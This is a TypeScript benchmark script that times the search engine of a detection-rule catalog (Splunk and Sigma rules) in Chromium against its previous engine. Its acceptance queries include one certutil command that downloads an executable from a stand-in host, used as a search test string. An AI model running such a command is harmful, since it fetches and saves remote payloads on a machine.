/**
 * `npx tsx scripts/bench-search.ts`: search figures on a real corpus, in Chromium.
 *
 * Builds `/search-index.json`, `/search-ids.json` and `/search-values.json` for CATALOG_CONTENT
 * (default: both corpora, ../shared/corpora/security_content and ../shared/corpora/sigma, those
 * present) exactly as the route handlers do and prints their raw and gzipped sizes. Then, in one
 * Chromium page, times the engine of lib/search beside the previous engine (its hand-written word
 * index, checked out from git at PREVIOUS_ENGINE into .atlas/ for this run only, fed the same
 * records packed as it packed them): load of the index (fetch + parse +
 * tables + term index; for the current engine also from the saved term index, as a second visit
 * does), and p50/p95 of the 50 fixed queries of lib/search/bench-queries.ts, both engines in the
 * same rounds (one warm-up round, then ROUNDS timed rounds). It prints the acceptance queries'
 * top results (typos, a pasted command line).
 *
 * With a built out/ of the same catalog, it also times the palette as a person meets it (served
 * by scripts/static-server.mjs): `/` → first result after 2 s idle with no hover before (the index
 * is fetched on that key: nothing fetches it while a page idles), on a second visit (HTTP cache,
 * term index from IndexedDB), and on a cold page (`/` pressed as soon as the page is parsed); and
 * a rule page's first-load JS.
 * `--no-palette` skips the palette timings. Prints figures; it is not a test.
 */
import { execFileSync, spawn } from "node:child_process"
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { loadavg } from "node:os"
import { join } from "node:path"
import { gunzipSync, gzipSync } from "node:zlib"

import { chromium, type Browser } from "@playwright/test"
import { build } from "esbuild"

import { loadCatalog } from "../lib/catalog/load.node.ts"
import { indexCatalog } from "../lib/catalog/views.ts"
import { BENCH_QUERIES } from "../lib/search/bench-queries.ts"
import { buildSearchIds, buildSearchIndex, buildSearchValues, type SearchData } from "../lib/search/build-index.ts"
import { buildSearchHead } from "../lib/search/head.ts"
import { searchRecords } from "../lib/search/records.ts"
import { contentHash } from "../lib/search/term-cache.ts"
import { firstLoadJs } from "./bench/first-load.ts"

/** The last commit of the previous engine (word index by hand), compared against in every run. */
const PREVIOUS_ENGINE = "fd6f6e71b519a0fed341ca4a0cf1d8d1d6c9bfa7"
const ROUNDS = Number(process.env.ROUNDS ?? 9)
const CORPORA = ["../shared/corpora/security_content", "../shared/corpora/sigma"].filter((c) => existsSync(c))
const roots = process.env.CATALOG_CONTENT ? process.env.CATALOG_CONTENT.split(",") : CORPORA
if (roots.length === 0) throw new Error("no corpus: set CATALOG_CONTENT or provide ../shared/corpora")
const log = (line: string) => process.stdout.write(`${line}\n`)
const kib = (n: number) => `${(n / 1024).toFixed(1)} KiB`
const pct = (xs: number[], p: number) => {
  const s = [...xs].sort((a, b) => a - b)
  return s[Math.min(s.length - 1, Math.max(0, Math.ceil((p / 100) * s.length) - 1))] ?? 0
}
const ms = (x: number) => `${x.toFixed(x < 10 ? 2 : 0)} ms`

const catalog = loadCatalog({ roots })
const started = performance.now()
const indexed = indexCatalog(catalog)
const json = JSON.stringify(await buildSearchIndex(indexed))
const idsJson = JSON.stringify(buildSearchIds(indexed))
const valuesJson = JSON.stringify(buildSearchValues(indexed))
log(
  `machine load average ${loadavg()
    .map((l) => l.toFixed(1))
    .join(" ")} (1, 5, 15 min; timings are wall-clock; a busy machine inflates them)`,
)
log(
  `corpus: ${roots.join(",")}: ${catalog.detections.length} rules; index built in ${Math.round(performance.now() - started)} ms`,
)
log(
  `shipped index (/search-index.json, the packed records): ${kib(json.length)} raw, ${kib(gzipSync(json, { level: 9 }).length)} gzipped`,
)
const headBytes = gzipSync(JSON.stringify(buildSearchHead(JSON.parse(json) as SearchData, await contentHash(json))), {
  level: 9,
})
log(
  `first part (/search-head.bin, fetched while a page idles; gzipped in the file): ${kib(gunzipSync(headBytes).length)} of JSON, ${kib(headBytes.length)} shipped`,
)
log(
  `ids (/search-ids.json, fetched only by a query that can match an id): ${kib(idsJson.length)} raw, ${kib(gzipSync(idsJson, { level: 9 }).length)} gzipped`,
)
log(
  `hash values (/search-values.json, fetched only by a query that can match one): ${kib(valuesJson.length)} raw, ${kib(gzipSync(valuesJson, { level: 9 }).length)} gzipped`,
)

// The previous engine, from git, for this run only.
const OLD = ".atlas/bench-previous-search"
rmSync(OLD, { recursive: true, force: true })
mkdirSync(join(OLD, "lib/search"), { recursive: true })
const oldFiles = execFileSync("git", ["ls-tree", "--name-only", PREVIOUS_ENGINE, "lib/search/"], { encoding: "utf8" })
  .split("\n")
  .filter((f) => f.endsWith(".ts") && !f.endsWith(".test.ts"))
for (const f of oldFiles)
  writeFileSync(join(OLD, f), execFileSync("git", ["show", `${PREVIOUS_ENGINE}:${f}`], { encoding: "utf8" }))
// The previous engine reads its own payload: the same records, packed as it packed them.
const oldPacking = (await import(join(process.cwd(), OLD, "lib/search/records.ts"))) as {
  packRecords: (r: ReturnType<typeof searchRecords>) => { rules: Record<string, unknown> }
}
const oldVersion = (await import(join(process.cwd(), OLD, "lib/search/build-index.ts"))) as {
  SEARCH_DATA_VERSION: number
}
const oldPacked = oldPacking.packRecords(searchRecords(indexed.catalog.detections, indexed.indicators))
const idsApart = (JSON.parse(json) as { idsApart: boolean }).idsApart
const oldJson = JSON.stringify({
  version: oldVersion.SEARCH_DATA_VERSION,
  idsApart,
  ...oldPacked,
  rules: { ...oldPacked.rules, ...(idsApart ? { id: [] } : {}) },
})

const ACCEPTANCE = [
  "powershel",
  "mimikats",
  "kerberost",
  "certutil -urlcache -split -f http://x.example/a.exe a.exe",
  "wmic",
  "T1047",
]

const bundle = await build({
  stdin: {
    contents: `
      import { loadSearchIndex } from "./lib/search/load-index.ts"
      import { runSearch, WARM_UP_QUERIES } from "./lib/search/run.ts"
      import { exportTermIndex } from "./lib/search/term-index.ts"
      import { loadSearchIndex as oldLoad } from "./${OLD}/lib/search/load-index.ts"
      import { runSearch as oldRun } from "./${OLD}/lib/search/run.ts"
      import { BENCH_QUERIES } from "./lib/search/bench-queries.ts"
      globalThis.bench = async (rounds, acceptance) => {
        const t0 = performance.now()
        const text = await (await fetch("/search-index.json")).text()
        const data = JSON.parse(text)
        const fetchParse = performance.now() - t0
        const oldText = await (await fetch("/search-index-previous.json")).text()
        const o0 = performance.now()
        const old = oldLoad(JSON.parse(oldText))
        const oldLoadMs = performance.now() - o0
        const l0 = performance.now()
        const lazy = loadSearchIndex(JSON.parse(text), undefined, undefined, true)
        const lazyLoadMs = performance.now() - l0
        const q0 = performance.now()
        runSearch(lazy, "winrs", {}, 8)
        const lazyQueryMs = performance.now() - q0
        const n0 = performance.now()
        const cur = loadSearchIndex(data)
        const newLoadMs = performance.now() - n0
        const saved = JSON.parse(JSON.stringify(await exportTermIndex(cur.terms)))
        const savedBytes = JSON.stringify(saved).length
        const c0 = performance.now()
        loadSearchIndex(JSON.parse(text), undefined, saved)
        const cachedLoadMs = performance.now() - c0
        const w0 = performance.now()
        for (const q of WARM_UP_QUERIES) runSearch(cur, q, {}, 8)
        const warmUpMs = performance.now() - w0
        for (const q of WARM_UP_QUERIES) oldRun(old, q, {}, 8)
        const times = { old: [], cur: [] }
        for (let i = 0; i <= rounds; i++) for (const q of BENCH_QUERIES) {
          let a = performance.now(); oldRun(old, q, {}, 50); const to = performance.now() - a
          a = performance.now(); runSearch(cur, q, {}, 50); const tc = performance.now() - a
          // Round 0 warms both engines up.
          if (i > 0) { times.old.push(to); times.cur.push(tc) }
        }
        const top = acceptance.map((q) => {
          const r = runSearch(cur, q, {}, 10)
          const o = oldRun(old, q, {}, 10)
          return { q, total: r.total, corrected: r.corrected, hits: r.hits.map((h) => h.format + ": " + h.name), oldTotal: o.total }
        })
        return { fetchParse, oldLoadMs, newLoadMs, lazyLoadMs, lazyQueryMs, cachedLoadMs, savedBytes, warmUpMs, times, top }
      }`,
    resolveDir: process.cwd(),
    loader: "ts",
  },
  bundle: true,
  format: "iife",
  platform: "browser",
  write: false,
  define: { "process.env.NEXT_PUBLIC_BASE_PATH": '""' },
})
const js = bundle.outputFiles[0]?.text ?? ""

const executablePath = process.env.CHROMIUM_PATH ?? (existsSync("/usr/bin/chromium") ? "/usr/bin/chromium" : undefined)
const args = [
  "--no-sandbox",
  "--disable-gpu",
  "--disable-background-networking",
  "--disable-component-update",
  "--no-first-run",
]
const browser = await chromium.launch({ executablePath, args })
try {
  // A real local HTTP server (gzip off, as from disk): Playwright's request interception would
  // add its own transfer time to the load figure.
  const server = createServer((req, res) => {
    const path = new URL(req.url ?? "/", "http://x").pathname
    const [type, body] =
      path === "/search-index.json"
        ? ["application/json", json]
        : path === "/search-ids.json"
          ? ["application/json", idsJson]
          : path === "/search-index-previous.json"
            ? ["application/json", oldJson]
            : path === "/bench.js"
              ? ["text/javascript", js]
              : ["text/html", '<!doctype html><script src="/bench.js"></script>']
    res.writeHead(200, { "content-type": type })
    res.end(body)
  })
  await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok))
  const page = await browser.newPage()
  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
  type Top = { q: string; total: number; corrected?: string; hits: string[]; oldTotal: number }
  type Run = {
    fetchParse: number
    oldLoadMs: number
    newLoadMs: number
    lazyLoadMs: number
    lazyQueryMs: number
    cachedLoadMs: number
    savedBytes: number
    warmUpMs: number
    times: { old: number[]; cur: number[] }
    top: Top[]
  }
  const r = await page.evaluate(
    ([rounds, acceptance]) =>
      (globalThis as unknown as { bench: (n: number, a: string[]) => Promise<Run> }).bench(rounds, acceptance),
    [ROUNDS, ACCEPTANCE] as const,
  )
  server.close()
  log(
    `load in Chromium (fetch + JSON parse ${ms(r.fetchParse)} apart): previous engine ${ms(r.oldLoadMs)}; FlexSearch engine ${ms(r.newLoadMs)} built whole, ${ms(r.cachedLoadMs)} from the saved term index (${kib(r.savedBytes)} in IndexedDB, never shipped), ${ms(r.lazyLoadMs)} answering before its term index is built (as the worker does; then "winrs" ${ms(r.lazyQueryMs)} by scanning the texts); warm-up ${ms(r.warmUpMs)}`,
  )
  for (const [label, xs] of [
    ["previous engine", r.times.old],
    ["FlexSearch engine", r.times.cur],
  ] as const) {
    const medians = BENCH_QUERIES.map((_, i) =>
      pct(
        xs.filter((_, j) => j % BENCH_QUERIES.length === i),
        50,
      ),
    )
    log(
      `${label}: ${BENCH_QUERIES.length} queries × ${ROUNDS} rounds: p50 ${ms(pct(xs, 50))}, p95 ${ms(pct(xs, 95))}, max ${ms(pct(xs, 100))}; median per query: p50 ${ms(pct(medians, 50))}, p95 ${ms(pct(medians, 95))}`,
    )
  }
  const cur = BENCH_QUERIES.map((q, i) => ({
    q,
    median: pct(
      r.times.cur.filter((_, j) => j % BENCH_QUERIES.length === i),
      50,
    ),
  }))
  log(
    `slowest (FlexSearch engine, median): ${cur
      .sort((a, b) => b.median - a.median)
      .slice(0, 5)
      .map((x) => `${x.q} ${ms(x.median)}`)
      .join(", ")}`,
  )
  for (const t of r.top) {
    log(
      `"${t.q}": ${t.total} rules${t.corrected ? ` (showing results for "${t.corrected}")` : ""}, previous engine ${t.oldTotal}; top 5: ${t.hits.slice(0, 5).join(" | ")}`,
    )
  }
  if (process.argv.includes("--no-palette")) log("palette timings skipped (--no-palette)")
  else await pagePalette(browser)
} finally {
  await browser.close()
  rmSync(OLD, { recursive: true, force: true })
}

/**
 * The palette on the built site in out/, when it holds this catalog: ready time, and `/` → first
 * result in three situations. Skipped, saying why, otherwise.
 */
async function pagePalette(b: Browser): Promise<void> {
  const shipped = existsSync("out/search-index.json") ? readFileSync("out/search-index.json", "utf8") : ""
  if (shipped !== json) {
    log(
      `palette timings skipped: out/ does not hold this catalog's build (CATALOG_CONTENT=${roots.join(",")} npm run build first)`,
    )
    return
  }
  // A free port, then the site's own static server on it.
  const probe = createServer()
  await new Promise<void>((ok) => probe.listen(0, "127.0.0.1", ok))
  const port = (probe.address() as AddressInfo).port
  await new Promise((ok) => probe.close(ok))
  const server = spawn(process.execPath, ["scripts/static-server.mjs", "out", String(port)], {
    stdio: ["ignore", "pipe", "inherit"],
  })
  try {
    await new Promise<void>((ok, fail) => {
      server.stdout.once("data", () => ok())
      server.on("exit", () => fail(new Error("the static server stopped")))
    })
    const base = `http://127.0.0.1:${port}`
    /**
     * `/` then `winrs`: ms from the key press to the first result (from the first part of the
     * index when the whole is not loaded yet: the status then says "so far") and to the whole
     * index's answer, measured in the page.
     */
    const slashToResult = async (p: import("@playwright/test").Page) => {
      await p.evaluate(() => {
        const w = window as unknown as { slashAt?: number; firstAt?: number; wholeAt?: number; early?: boolean }
        window.addEventListener("keydown", (e) => e.key === "/" && (w.slashAt ??= performance.now()), { capture: true })
        const list = document.getElementById("atlas-search-list")
        const status = document.getElementById("atlas-search-status")
        if (list && status)
          new MutationObserver(() => {
            // The status follows the options by a render: "so far" marks an early answer, a plain
            // count the whole index's.
            const text = status.textContent ?? ""
            if (text.includes("so far")) w.early = true
            if (!list.querySelector('[role="option"]')) return
            w.firstAt ??= performance.now()
            if (/^(\d+ rules match|1 rule matches)[.,]/.test(text)) w.wholeAt ??= performance.now()
          }).observe(document.body, { childList: true, subtree: true, characterData: true })
      })
      await p.keyboard.press("/")
      await p.keyboard.type("winrs")
      await p.waitForFunction(() => (window as unknown as { wholeAt?: number }).wholeAt !== undefined, undefined, {
        timeout: 60_000,
      })
      return p.evaluate(() => {
        const w = window as unknown as { slashAt?: number; firstAt?: number; wholeAt?: number; early?: boolean }
        return {
          first: (w.firstAt ?? 0) - (w.slashAt ?? 0),
          whole: (w.wholeAt ?? 0) - (w.slashAt ?? 0),
          early: w.early === true,
        }
      })
    }
    const said = (x: { first: number; whole: number; early: boolean }) =>
      x.early ? `${ms(x.first)} (first part; whole index ${ms(x.whole)})` : `${ms(x.first)} (whole index)`
    const readyAfterLoad = (p: import("@playwright/test").Page) =>
      p.evaluate(async () => {
        while (performance.getEntriesByName("atlas-search-ready").length === 0)
          await new Promise((ok) => setTimeout(ok, 20))
        const mark = performance.getEntriesByName("atlas-search-ready")[0] as PerformanceMark
        const head = performance.getEntriesByName("atlas-search-head")[0] as PerformanceMark | undefined
        const nav = performance.getEntriesByType("navigation")[0] as PerformanceNavigationTiming
        const detail = mark.detail as { workerMs: number; cached: boolean; saved: boolean }
        return {
          afterLoad: mark.startTime - nav.loadEventEnd,
          headAfterLoad: head ? head.startTime - nav.loadEventEnd : undefined,
          worker: detail.workerMs,
          cached: detail.cached,
          saved: detail.saved,
        }
      })
    /** Waits until `ms` after the page's load event. */
    const untilAfterLoad = async (p: import("@playwright/test").Page, wait: number) => {
      const since = await p.evaluate(
        () =>
          performance.now() -
          (performance.getEntriesByType("navigation")[0] as PerformanceNavigationTiming).loadEventEnd,
      )
      await p.waitForTimeout(Math.max(0, wait - since))
    }
    /** Bytes of every response in the first 4 s after load of a fresh page, as e2e/scale.spec.ts counts them. */
    const firstSeconds = async (path: string) => {
      const ctx = await b.newContext({ viewport: { width: 1440, height: 900 } })
      const p = await ctx.newPage()
      const sizes: Array<Promise<number>> = []
      let open = true
      p.on("response", (r) => {
        if (open)
          sizes.push(
            r.body().then(
              (x) => x.length,
              () => 0,
            ),
          )
      })
      await p.goto(base + path)
      await p.waitForTimeout(4_000)
      open = false
      const all = await Promise.all(sizes)
      await ctx.close()
      return { responses: all.length, bytes: all.reduce((x, y) => x + y, 0) }
    }
    for (const path of ["/", firstRulePage()].filter((x): x is string => x !== undefined)) {
      const weight = await firstSeconds(path)
      const ctx = await b.newContext()
      const p = await ctx.newPage()
      // First visit: / pressed 2 s after load, ready or not; the ready time read afterwards.
      await p.goto(base + path)
      await untilAfterLoad(p, 2000)
      const idle = await slashToResult(p)
      const ready = await readyAfterLoad(p)
      // Second visit (same browser profile: HTTP cache and IndexedDB kept), once the first has
      // saved its index (a person comes back later than a script): / at once after load.
      // (No named functions inside page.evaluate: tsx would wrap them in a helper the page lacks.)
      const savedMs = await p.evaluate(async () => {
        const t0 = performance.now()
        for (;;) {
          const saved = await new Promise<number>((ok) => {
            const req = indexedDB.open("atlas-search")
            req.onerror = () => ok(0)
            req.onsuccess = () => {
              const db = req.result
              if (!db.objectStoreNames.contains("term-index")) {
                db.close()
                ok(0)
                return
              }
              const c = db.transaction("term-index").objectStore("term-index").count()
              c.onsuccess = () => {
                db.close()
                ok(c.result)
              }
              c.onerror = () => {
                db.close()
                ok(0)
              }
            }
          })
          if (saved > 0 || performance.now() - t0 > 20_000) return performance.now() - t0
          await new Promise((ok) => setTimeout(ok, 100))
        }
      })
      await p.goto(base + path)
      const again = await slashToResult(p)
      const readyAgain = await readyAfterLoad(p)
      // Third visit: / 2 s after load.
      await p.goto(base + path)
      await untilAfterLoad(p, 2000)
      const againIdle = await slashToResult(p)
      const third = await readyAfterLoad(p)
      await ctx.close()
      const cold = await b.newContext()
      const c = await cold.newPage()
      await c.goto(base + path, { waitUntil: "domcontentloaded" })
      const noPrewarm = await slashToResult(c)
      await cold.close()
      const from = (r: { saved: boolean; cached: boolean }) =>
        r.saved ? "whole index from the save, no network" : r.cached ? "term index from the save" : "built"
      log(
        `palette on ${path}: first 4 s after load of a fresh page: ${weight.responses} responses, ${weight.bytes.toLocaleString("en")} bytes; ` +
          `first part answering ${ready.headAfterLoad === undefined ? "never" : `${ms(ready.headAfterLoad)} after load`}; ` +
          `/ → first result after 2 s idle, no hover before ${said(idle)} (whole index fetched on /, answering ${ms(ready.worker)} after its fetch began in the worker); ` +
          `later visits (index saved ${ms(savedMs)} after the first was measured): / at once after load → first result ${said(again)} (${from(readyAgain)}, answering ${ms(readyAgain.worker)} after the worker began), / 2 s after load ${said(againIdle)} (${from(third)}); ` +
          `cold, / as soon as the page is parsed ${said(noPrewarm)}`,
      )
    }
  } finally {
    server.kill()
  }
  // First-load JS of a rule page and of /search/: the palette, its worker and the index stay out.
  for (const page of [firstRulePage()?.slice(1, -1), "search"]) {
    const f = page === undefined ? undefined : firstLoadJs("out", page)
    if (f) log(`first-load JS of /${page}/: ${f.scripts} scripts, ${kib(f.raw)} raw, ${kib(f.gz)} gzipped`)
  }
}

function firstRulePage(): string | undefined {
  return ["splunk", "sigma"].flatMap((f) =>
    existsSync(`out/rules/${f}`)
      ? readdirSync(`out/rules/${f}`)
          .sort()
          .slice(0, 1)
          .map((slug) => `/rules/${f}/${slug}/`)
      : [],
  )[0]
}
